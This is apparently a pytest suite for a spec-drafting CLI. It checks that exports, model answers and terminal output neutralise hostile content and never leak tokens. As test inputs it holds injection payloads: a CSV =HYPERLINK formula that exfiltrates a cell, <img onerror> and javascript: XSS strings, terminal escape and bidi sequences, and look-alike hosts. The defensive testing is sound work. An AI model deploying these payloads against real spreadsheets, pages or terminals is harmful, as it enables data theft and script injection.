"""Hostile output: what servers and models send back (export answers, model answers, sign-off records
edited by hand) never reaches a spreadsheet as a formula, the terminal as escape sequences, a spec as
hidden structure, or a file or the terminal with a known secret in it. See docs/reliability.md."""

from __future__ import annotations

import csv
import io
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import pytest
from helpers.fake_github import FakeGithub
from typer.testing import CliRunner, Result

from agent.cli.main import app
from agent.integrations.export.github import GithubClient
from agent.integrations.export.records import records_path

SPECS = Path(__file__).parent.parent / "data" / "specs"
CLEAN = (SPECS / "clean.md").read_text(encoding="utf-8")
ENV = {"COLUMNS": "200", "NO_COLOR": "1", "TERM": "dumb"}


def run(*args: str | Path, env: dict[str, str] | None = None, stdin: str | None = None) -> Result:
    return CliRunner().invoke(app, [str(a) for a in args], env={**ENV, **(env or {})}, input=stdin)


def github_env(fake: FakeGithub) -> dict[str, str]:
    return {"GITHUB_TOKEN": fake.token, "GH_TOKEN": "", "GITHUB_API_URL": fake.api}


def _spec(folder: Path, text: str = CLEAN, name: str = "spec.md") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


# -- export: Jira CSV -------------------------------------------------------------------------------

HOSTILE_PHASES = [
    '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"Click") Phase 1',
    "@Phase2",
    "+1 Phase",
    "-2 Phase",
]


def test_jira_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    text = CLEAN
    phases = iter(HOSTILE_PHASES)
    lines = []
    for line in text.splitlines():
        if line.startswith("### Phase"):
            line = "### " + next(phases)
        lines.append(line)
    text = "\n".join(lines) + "\n"
    extra = "- [ ] Enable for all workspaces\n- [ ] \tTab-led task\n- [ ] Ask @octocat about List<T>"
    spec = _spec(tmp_path, text.replace("- [ ] Enable for all workspaces", extra))
    result = run("export", spec, "--to", "jira-csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    summaries = [row[1] for row in rows if row[3] == "Epic"]
    assert "'" + HOSTILE_PHASES[0] in summaries and "'@Phase2" in summaries  # shown, not run
    assert any(row[1].endswith("Ask @octocat about List<T>") for row in rows)  # no GitHub escapes in Jira


# -- export: GitHub ---------------------------------------------------------------------------------


def test_a_token_echoed_in_html_url_is_neither_printed_nor_stored(
    tmp_path: Path, fake_github: FakeGithub
) -> None:
    fake_github.echo_token_in_url = True
    spec = _spec(tmp_path)
    result = run("export", spec, "--to", "github", "--repo", "acme/widgets", env=github_env(fake_github))
    assert result.exit_code == 0, result.output
    assert "created T-001: #1 https://github.example/acme/widgets/issues/1" in result.output
    json_run = run(
        "export", spec, "--to", "github", "--repo", "acme/widgets", "--json", env=github_env(fake_github)
    )
    for text in (result.output, json_run.output, records_path(spec).read_text(encoding="utf-8")):
        assert fake_github.token not in text
        assert fake_github.token[4:] not in text


def test_issues_of_another_spec_or_a_stranger_are_not_ours(tmp_path: Path, fake_github: FakeGithub) -> None:
    env = github_env(fake_github)
    spec_a = _spec(tmp_path / "a")
    assert run("export", spec_a, "--to", "github", "--repo", "acme/widgets", env=env).exit_code == 0
    fake_github.add_issue("Question about [T-001]", "How is [T-001] tested?")
    spec_b = _spec(tmp_path / "b", CLEAN.replace("description:", "id: spec-b\ndescription:"))
    result = run("export", spec_b, "--to", "github", "--repo", "acme/widgets", "--json", env=env)
    assert result.exit_code == 0, result.output
    summary = json.loads(result.stdout)
    assert len(summary["created"]) == 8 and summary["skipped"] == {}
    assert len(fake_github.created) == 16
    assert "<!-- specdraft: spec=spec-b task=T-001 -->" in fake_github.created[8]["body"]
    # a rerun of B without its records file finds B's issues by their marker, not A's
    records_path(spec_b).unlink()
    again = json.loads(
        run("export", spec_b, "--to", "github", "--repo", "acme/widgets", "--json", env=env).stdout
    )
    assert again["created"] == {} and again["skipped"]["T-001"].endswith("/issues/10")  # 9 is the stranger's


class _Capture(BaseHTTPRequestHandler):
    """Records the Authorization header of every request (class attribute ``seen``)."""

    seen: ClassVar[list[str]] = []

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        self.seen.append(self.headers.get("Authorization", ""))
        body = b"[]"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def _serve(httpd: ThreadingHTTPServer) -> threading.Thread:
    thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    return thread


@pytest.fixture
def prefix_ports() -> Iterator[tuple[FakeGithub, str]]:
    """A fake GitHub on port P and a capturing listener on a port whose digits start with P's
    (GITHUB_API_URL=http://127.0.0.1:4701, next link to http://127.0.0.1:47012/...)."""
    from helpers.fake_github import _handler

    fake = FakeGithub()
    for _attempt in range(50):
        capture = ThreadingHTTPServer(("127.0.0.1", 0), _Capture)
        port = capture.server_address[1] // 10
        try:
            api = ThreadingHTTPServer(("127.0.0.1", port), _handler(fake)) if port > 1024 else None
        except OSError:
            api = None
        if api is not None:
            break
        capture.server_close()
    else:
        pytest.skip("no pair of free loopback ports found")
    fake.port = port
    threads = [_serve(capture), _serve(api)]
    try:
        yield fake, f"http://127.0.0.1:{capture.server_address[1]}"
    finally:
        for httpd in (capture, api):
            httpd.shutdown()
            httpd.server_close()
        for thread in threads:
            thread.join(timeout=5)


def test_a_next_page_on_a_longer_port_never_receives_the_token(prefix_ports: tuple[FakeGithub, str]) -> None:
    fake, elsewhere = prefix_ports
    assert elsewhere.startswith(fake.api)
    _Capture.seen = []
    for n in range(3):
        fake.add_issue(f"issue {n}")
    fake.next_base = elsewhere
    client = GithubClient("acme/widgets", fake.token, api=fake.api)
    try:
        client.existing_task_issues("spec.md")
    except TypeError:  # the call as it was before issues were keyed on the spec
        client.existing_task_issues()  # type: ignore[call-arg]
    finally:
        client.close()
    assert _Capture.seen == []
    assert [m for m, _ in fake.requests] == ["GET"]


@pytest.mark.parametrize(
    ("url", "ours"),
    [
        ("http://127.0.0.1:4701/repos/o/r/issues?page=2", True),
        ("http://127.0.0.1:47012/repos/o/r/issues?page=2", False),
        ("http://127.0.0.1:4701@127.0.0.1:9/repos", False),
        ("https://127.0.0.1:4701/repos", False),
        ("http://localhost:4701/repos", False),
    ],
)
def test_next_links_must_have_the_apis_scheme_host_and_port(url: str, ours: bool) -> None:
    from agent.integrations.export.github import same_origin

    assert same_origin(url, "http://127.0.0.1:4701") is ours


def test_next_links_on_github_com() -> None:
    from agent.integrations.export.github import same_origin

    assert same_origin("https://api.github.com/repositories/1/issues?page=2", "https://api.github.com")
    assert same_origin("https://api.github.com:443/repos", "https://api.github.com")
    assert not same_origin("https://api.github.com.evil.example/repos", "https://api.github.com")
    assert not same_origin("https://ghe.example/other/repos", "https://ghe.example/api/v3")


def test_issue_text_notifies_nobody_and_runs_nothing(tmp_path: Path, fake_github: FakeGithub) -> None:
    hostile = "@octocat and @acme/admins <img src=x onerror=alert(1)> [docs](javascript:alert(1)) `List<T>`"
    text = CLEAN.replace("- [ ] Enable for all workspaces", f"- [ ] Enable for {hostile}")
    text = text.replace("### Phase 4: Deployment (Week 7-8)", f"### Phase 4: Deployment {hostile}")
    spec = _spec(tmp_path, text)
    result = run("export", spec, "--to", "github", "--repo", "acme/widgets", env=github_env(fake_github))
    assert result.exit_code == 0, result.output
    issue = next(i for i in fake_github.created if "octocat" in i["title"])
    for field in (issue["title"], issue["body"]):
        assert "@octocat" not in field and "@acme" not in field and "@&#8203;octocat" in field
        assert "<img" not in field and "&lt;img" in field
        assert "](javascript:" not in field
        assert "`List<T>`" in field  # code spans are shown as they are


def test_a_body_over_githubs_limit_is_cut_with_a_note(tmp_path: Path, fake_github: FakeGithub) -> None:
    long_requirement = "very " * 16_000
    text = CLEAN.replace("An admin invites one or more", f"An admin {long_requirement} invites one or more")
    spec = _spec(tmp_path, text)
    result = run(
        "export", spec, "--to", "github", "--repo", "acme/widgets", "--json", env=github_env(fake_github)
    )
    assert result.exit_code == 0, result.output
    bodies = [i["body"] for i in fake_github.created]
    assert max(len(b) for b in bodies) <= 65_536  # GitHub's limit
    cut = [b for b in bodies if "65,536-character limit" in b]
    assert cut and all(b.endswith(" -->") and "task=T-" in b.splitlines()[-1] for b in cut)


# -- model answers: no structure once rendered ------------------------------------------------------

SMALL_TEMPLATE = (
    "# [FEATURE_NAME]\n\n## Summary\n[What the feature does and for whom]\n\n## Risks\n- [A risk]\n"
)
HTML_ANSWERS = {
    "comment": "<!-- ",
    "heading": "<h2>Injected</h2> ",
    "element": '<img src=x onerror="alert(1)"> <details><summary>x</summary> ',
}


def _draft_small(server: Any, tmp_path: Path, *extra: str, footer: bool = False) -> tuple[Result, str]:
    template = tmp_path / "small.md"
    template.write_text(SMALL_TEMPLATE + ("\n---\n\n**Status**: [DRAFT|REVIEW|APPROVED]\n" if footer else ""))
    brief = tmp_path / "brief.md"
    brief.write_text("# Invoice export\n\nUsers export invoices as CSV files.\n")
    out = tmp_path / "spec.md"
    result = run(
        "draft", brief, "-o", out, "--template", template, "--base-url", server.base_url,
        "--model", "fault-model", "--timeout", "5", "--max-retries", "1", *extra,
    )  # fmt: skip
    return result, out.read_text(encoding="utf-8") if out.exists() else ""


@pytest.mark.parametrize("name", sorted(HTML_ANSWERS))
def test_html_in_model_answers_adds_no_structure_when_rendered(
    fault_server: Any, tmp_path: Path, name: str
) -> None:
    from markdown_it import MarkdownIt

    fault_server.extra_text = HTML_ANSWERS[name]
    result, spec = _draft_small(fault_server, tmp_path)
    assert result.exit_code in (0, 3), result.output
    html = MarkdownIt("commonmark").render(spec.split("\n---\n", 1)[1])
    assert html.count("<h2>") == 2, html  # Summary and Risks, nothing hidden, nothing added
    assert "<!--" not in html and "<img" not in html and "<details>" not in html
    assert "&lt;" in html  # the model's text is shown as text


# -- model answers: known secrets are never stored ---------------------------------------------------

FAKE_KEY = "sk-specdraft-FAKE-KEY-7f3a9c1e5b2d4e6f8a0b"
FAKE_GITHUB = "ghp_FAKEgithubTOKEN0123456789abcdefghij"
FAKE_HF = "hf_FAKEhubTOKEN0123456789abcdefghijkl"


@pytest.mark.parametrize("secret", [FAKE_KEY, FAKE_GITHUB, FAKE_HF], ids=["api-key", "github", "hf"])
def test_a_known_secret_in_a_model_answer_is_never_stored(
    fault_server: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, secret: str
) -> None:
    import os

    monkeypatch.setenv("OPENAI_API_KEY", FAKE_KEY)
    monkeypatch.setenv("GITHUB_TOKEN", FAKE_GITHUB)
    monkeypatch.setenv("HF_TOKEN", FAKE_HF)
    fault_server.extra_text = f"use {secret} here "
    result, spec = _draft_small(fault_server, tmp_path)
    assert result.exit_code in (0, 3), result.output
    assert spec and "(redacted)" in spec
    cache = Path(os.environ["SPECDRAFT_CACHE_DIR"])
    stored = [p for p in [*tmp_path.rglob("*"), *cache.rglob("*")] if p.is_file()]
    assert len(stored) > 3  # the spec, the template, the brief and cached answers
    for path in stored:
        assert secret not in path.read_text(encoding="utf-8", errors="replace"), path
    assert secret not in result.output
    assert "secret-like" not in result.output  # nothing left for lint to warn about


# -- the terminal: no escape sequences, no bidi overrides ---------------------------------------------

HOSTILE_TERMINAL = "\x1b]0;pwned\x07 \x1b[2J cleared \u202eesrever\u202c \x9b31m done"


def _clean_for_terminal(text: str) -> bool:
    return not any(c in text for c in ("\x1b", "\x07", "\u202e", "\u202c", "\x9b"))


@pytest.fixture
def chat_model(fault_server: Any) -> Any:
    fault_server.replies.update(
        {
            "route": json.dumps({"kind": "question", "sections": []}),
            "answer": json.dumps({"answer": f"Redis {HOSTILE_TERMINAL}"}),
        }
    )
    return fault_server


def test_a_chat_answer_reaches_the_terminal_without_control_sequences(
    chat_model: Any, tmp_path: Path
) -> None:
    spec = _spec(tmp_path)
    result = run("chat", spec, "--base-url", chat_model.base_url, stdin=f"why Redis? {HOSTILE_TERMINAL}\n")
    assert result.exit_code == 0, result.output
    assert "Redis" in result.output and "cleared" in result.output and "esrever" in result.output
    assert _clean_for_terminal(result.output), repr(result.output)  # the echoed line too


def test_a_refine_answer_and_reason_reach_the_terminal_clean(chat_model: Any, tmp_path: Path) -> None:
    spec = _spec(tmp_path)
    question = run("refine", spec, "-m", "why Redis?", "--base-url", chat_model.base_url)
    assert question.exit_code == 0, question.output
    assert "Redis" in question.output and _clean_for_terminal(question.output), repr(question.output)
    chat_model.replies["route"] = json.dumps(
        {"kind": "edit", "sections": [{"title": "Overview", "reason": HOSTILE_TERMINAL}]}
    )
    chat_model.replies["Overview"] = json.dumps({"what_are_we_building": "Invitations by email."})
    edit = run("refine", spec, "-m", "shorter", "--base-url", chat_model.base_url)
    assert edit.exit_code == 0, edit.output
    assert "cleared" in edit.output and _clean_for_terminal(edit.output), repr(edit.output)


def test_lint_findings_quote_spec_text_clean(tmp_path: Path) -> None:
    spec = _spec(tmp_path, CLEAN.replace("## Overview", f"## Overview {HOSTILE_TERMINAL}"))
    result = run("lint", spec)
    assert "cleared" in result.output, result.output
    assert _clean_for_terminal(result.output), repr(result.output)


def test_trace_quotes_spec_lines_clean(tmp_path: Path) -> None:
    spec = _spec(
        tmp_path, CLEAN.replace("- [ ] Implement the create", "- [ ] \x1b[2J\u202eImplement the create")
    )
    result = run("trace", spec)
    assert "Implement" in result.output, result.output
    assert _clean_for_terminal(result.output), repr(result.output)


@pytest.mark.parametrize("locale", ["C", "C.UTF-8"])
def test_invalid_utf8_piped_into_chat_does_not_end_it(chat_model: Any, tmp_path: Path, locale: str) -> None:
    import os
    import subprocess
    import sys

    spec = _spec(tmp_path)
    root = Path(__file__).resolve().parents[2]
    env = {**os.environ, "LC_ALL": locale, "LANG": locale, "PYTHONPATH": str(root), "COLUMNS": "200"}
    env.pop("PYTHONIOENCODING", None)
    env.pop("PYTHONUTF8", None)
    done = subprocess.run(
        [sys.executable, "-m", "agent", "chat", str(spec), "--base-url", chat_model.base_url],
        input=b"why \xff\xfe Redis?\n/sections\n",
        capture_output=True,
        cwd=tmp_path,
        env=env,
        timeout=120,
        check=False,
    )
    out, err = done.stdout.decode("utf-8", "replace"), done.stderr.decode("utf-8", "replace")
    assert done.returncode == 0, err
    assert "Traceback" not in err and "UnicodeEncodeError" not in err
    assert "Redis" in out and "Overview" in out  # the answer, then the next line's command


def test_no_langchain_proxy_notice_on_a_model_command(fault_server: Any, tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    (tmp_path / "small.md").write_text(SMALL_TEMPLATE)
    (tmp_path / "brief.md").write_text("# Invoice export\n\nUsers export invoices as CSV files.\n")
    root = Path(__file__).resolve().parents[2]
    env = {**os.environ, "PYTHONPATH": str(root), "HTTPS_PROXY": "http://127.0.0.1:9",
           "HTTP_PROXY": "http://127.0.0.1:9", "NO_PROXY": "127.0.0.1,localhost"}  # fmt: skip
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "agent",
            "draft",
            "brief.md",
            "-o",
            "spec.md",
            "--template",
            "small.md",
            "--base-url",
            fault_server.base_url,
            "--model",
            "fault-model",
            "--timeout",
            "5",
        ],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        env=env,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert "langchain" not in done.stderr.lower() and "proxy" not in done.stderr.lower(), done.stderr


# -- sign-off records edited by hand ------------------------------------------------------------------

needs_ssh = pytest.mark.skipif(__import__("shutil").which("ssh-keygen") is None, reason="no ssh-keygen")


@needs_ssh
def test_one_key_under_two_emails_counts_once_even_with_an_edited_key_field(tmp_path: Path) -> None:
    import re
    import subprocess

    key = tmp_path / "id_ed25519"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True, timeout=60)
    allowed = tmp_path / "allowed_signers"
    allowed.write_text(f"ana@x.io,ana@old.io {key.with_suffix('.pub').read_text().strip()}\n")
    spec = _spec(tmp_path, CLEAN.replace("status: DRAFT", "status: DRAFT\napprovals_required: 2"))
    assert run("review", spec).exit_code == 0
    for email in ("ana@x.io", "ana@old.io"):
        approved = run("approve", spec, "--by", f"Ana Lima <{email}>", "--ssh-key", key)
        assert approved.exit_code == 0, approved.output
    honest = run("verify", spec, "--allowed-signers", allowed)
    assert honest.exit_code == 1 and "1 of 2" in honest.output, honest.output
    text = spec.read_text(encoding="utf-8")
    keys = re.findall(r"key: (SHA256:[A-Za-z0-9+/=]+)", text)
    assert len(keys) == 2 and keys[0] == keys[1]
    last = text.rindex(keys[1])
    spec.write_text(text[:last] + "SHA256:" + "A" * 43 + text[last + len(keys[1]) :], encoding="utf-8")
    for allowed_flag in (["--allowed-signers", str(allowed)], []):
        edited = run("verify", spec, *allowed_flag)
        assert edited.exit_code == 1, edited.output
        assert "OK" not in edited.output and "1 of 2" in edited.output, edited.output


def _many_sections(tmp_path: Path, required: int) -> Path:
    sections = "".join(f"## Work package {n:04d}\n\nPackage {n} moves invoices.\n\n" for n in range(2000))
    text = CLEAN.replace("status: DRAFT", f"status: REVIEW\napprovals_required: {required}")
    text = text.replace("## Overview", sections + "## Overview", 1)
    return _spec(tmp_path, text)


def test_approve_never_writes_front_matter_the_reader_refuses(tmp_path: Path) -> None:
    spec = _many_sections(tmp_path, required=4)
    outcomes = []
    for n in range(4):
        before = spec.read_bytes()
        result = run("approve", spec, "--force", "--by", f"Approver {n} <a{n}@example.com>")
        outcomes.append(result.exit_code)
        if result.exit_code != 0:
            assert result.exit_code == 2 and "Traceback" not in result.output
            assert "approval refused" in result.output and "fit" in result.output, result.output
            assert spec.read_bytes() == before  # nothing written
        for command in ("status", "verify"):
            read = run(command, spec)
            assert "front matter refused" not in read.output and read.exit_code in (0, 1), read.output
    assert 2 in outcomes  # the approvals that cannot all fit were refused up front


def test_a_front_matter_write_over_the_limit_is_refused() -> None:
    from agent.errors import InputError
    from agent.specdoc.document import parse_spec

    doc = parse_spec(CLEAN, source="spec.md")
    with pytest.raises(InputError, match="not written: its front matter would be refused"):
        doc.with_front_matter({**doc.front_matter, "notes": ["x" * 100] * 3000})


# -- configuration: a base_url with credentials in specdraft.toml --------------------------------------

CONFIG_PASSWORD = "D3adPassw0rd"
MODEL_COMMANDS = {
    "draft": ["draft", "briefs/export.md", "-o", "out.md", "--template", "small.md"],
    "chat": ["chat", "spec.md"],
    "refine": ["refine", "spec.md", "-m", "use Okta"],
    "batch": ["batch", "briefs", "-o", "out", "--template", "small.md"],
    "eval-draft": ["eval", "--draft", "briefs/export.md", "--template", "small.md"],
    "doctor": ["doctor"],
}


@pytest.mark.parametrize("model", [True, False], ids=["model-set", "model-listed"])
@pytest.mark.parametrize("command", sorted(MODEL_COMMANDS))
def test_base_url_credentials_from_the_project_file_are_never_shown(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str, model: bool
) -> None:
    import socket

    with socket.socket() as sock:  # a local port nothing listens on
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    (tmp_path / "briefs").mkdir()
    (tmp_path / "briefs" / "export.md").write_text("# Invoice export\n\nUsers export invoices as CSV.\n")
    (tmp_path / "small.md").write_text(SMALL_TEMPLATE)
    (tmp_path / "spec.md").write_text(CLEAN)
    settings = f'base_url = "http://bob:{CONFIG_PASSWORD}@127.0.0.1:{port}/v1"\ntimeout = 2\n'
    (tmp_path / "specdraft.toml").write_text(settings + ('model = "m"\n' if model else ""))
    monkeypatch.chdir(tmp_path)
    result = run(*MODEL_COMMANDS[command], stdin="hello\n")
    shown = result.stdout + result.stderr
    # nothing can reach the server (chat reports the error and goes on; eval scores what it has)
    assert result.exit_code != 0 or command in ("chat", "eval-draft"), shown
    assert "Traceback" not in shown
    assert f"bob:***@127.0.0.1:{port}" in shown or command in ("batch", "eval-draft"), shown
    assert CONFIG_PASSWORD not in shown
    for path in tmp_path.rglob("*"):
        if path.is_file() and path.name != "specdraft.toml":
            assert CONFIG_PASSWORD not in path.read_text(encoding="utf-8", errors="replace"), path


# -- model answers: size ---------------------------------------------------------------------------


@pytest.mark.parametrize("chunked", [False, True], ids=["content-length", "chunked"])
def test_an_answer_over_the_cap_is_not_read_past_it(
    fault_server: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, chunked: bool
) -> None:
    from agent.llm import client

    monkeypatch.setattr(client, "MAX_ANSWER_BYTES", 1_000_000, raising=False)
    fault_server.huge_bytes = 3_000_000
    fault_server.chunked = chunked
    fault_server.plan(default="huge")
    result, spec = _draft_small(fault_server, tmp_path, "--strict")
    assert result.exit_code == 1, result.output
    assert "too large an answer" in result.output and "Traceback" not in result.output, result.output
    assert spec == ""


def test_verify_says_when_the_template_changed_after_approval(fault_server: Any, tmp_path: Path) -> None:
    result, _spec_text = _draft_small(fault_server, tmp_path, footer=True)
    assert result.exit_code == 0, result.output
    spec = tmp_path / "spec.md"
    reviewed = run("review", spec)
    assert reviewed.exit_code == 0, reviewed.output
    assert run("approve", spec, "--by", "Ana Lima <ana@example.com>").exit_code == 0
    assert "has changed" not in run("verify", spec).stderr
    template = tmp_path / "small.md"
    template.write_text(template.read_text() + "\n## Rollback\n[How to undo it]\n")
    after = run("verify", spec)
    assert after.exit_code == 0, after.output  # the approval itself still holds
    assert "has changed since this spec was drafted" in after.stderr, after.output
